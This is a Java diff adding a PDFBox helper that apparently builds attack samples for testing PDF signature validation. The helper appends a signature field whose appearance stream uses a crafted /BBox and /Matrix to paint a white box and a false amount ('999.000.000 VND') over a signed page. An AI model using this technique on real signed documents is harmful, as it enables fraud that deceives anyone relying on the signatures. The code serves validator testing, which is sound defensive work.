@@ -11,7 +11,14 @@ import org.apache.pdfbox.pdmodel.PDPageContentStream;
 import org.apache.pdfbox.pdmodel.common.PDRectangle;
 import org.apache.pdfbox.pdmodel.font.PDType1Font;
 import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
+import org.apache.pdfbox.pdmodel.PDResources;
 import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationSquare;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
+import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
+import org.apache.pdfbox.pdmodel.interactive.form.PDSignatureField;
+import org.apache.pdfbox.util.Matrix;
 
 /**
  * Changes a signed PDF after signing the way an editor does: an incremental update appended to
@@ -46,6 +53,56 @@ public final class PostSigningEdits {
             square.setRectangle(new PDRectangle(100, 100, 200, 50));
             page.getAnnotations().add(square);
             page.getCOSObject().setNeedToBeUpdated(true);
+        });
+    }
+
+    /**
+     * Adds an empty signature field on page 1 whose widget sits in {@code rect} but whose appearance
+     * stream has the given /BBox and /Matrix and paints a white box with a replacement amount over all
+     * of it: the evil-annotation appearance (a viewer that does not fit the /BBox into the rectangle
+     * paints over the page). Signing that field with DSS/PDFBox would replace the appearance, so the attack
+     * samples leave it empty and add the next signature in a field of its own.
+     */
+    public static byte[] addSignatureFieldWithAppearance(byte[] signedPdf, String name, PDRectangle rect,
+                                                         PDRectangle bbox, Matrix matrix) {
+        return edit(signedPdf, doc -> {
+            PDPage page = doc.getPage(0);
+            PDAcroForm form = doc.getDocumentCatalog().getAcroForm();
+            if (form == null) {
+                form = new PDAcroForm(doc);
+                doc.getDocumentCatalog().setAcroForm(form);
+            }
+            PDSignatureField field = new PDSignatureField(form);
+            field.setPartialName(name);
+            PDAnnotationWidget widget = field.getWidgets().get(0);
+            widget.setRectangle(rect);
+            widget.setPage(page);
+            widget.setPrinted(true);
+            PDAppearanceStream appearance = new PDAppearanceStream(doc);
+            appearance.setBBox(bbox);
+            appearance.setMatrix(matrix.createAffineTransform());
+            appearance.setResources(new PDResources());
+            try (PDPageContentStream cs = new PDPageContentStream(doc, appearance)) {
+                cs.setNonStrokingColor(java.awt.Color.WHITE);
+                cs.addRect(bbox.getLowerLeftX(), bbox.getLowerLeftY(), bbox.getWidth(), bbox.getHeight());
+                cs.fill();
+                cs.setNonStrokingColor(java.awt.Color.BLACK);
+                cs.beginText();
+                cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA_BOLD), 14);
+                cs.newLineAtOffset(bbox.getLowerLeftX() + 50, bbox.getUpperRightY() - 100);
+                cs.showText("So tien: 999.000.000 VND");
+                cs.endText();
+            }
+            PDAppearanceDictionary ap = new PDAppearanceDictionary();
+            ap.setNormalAppearance(appearance);
+            widget.setAppearance(ap);
+            form.getFields().add(field);
+            form.setSignaturesExist(true);
+            form.setAppendOnly(true);
+            page.getAnnotations().add(widget);
+            page.getCOSObject().setNeedToBeUpdated(true);
+            form.getCOSObject().setNeedToBeUpdated(true);
+            doc.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
         });
     }
 
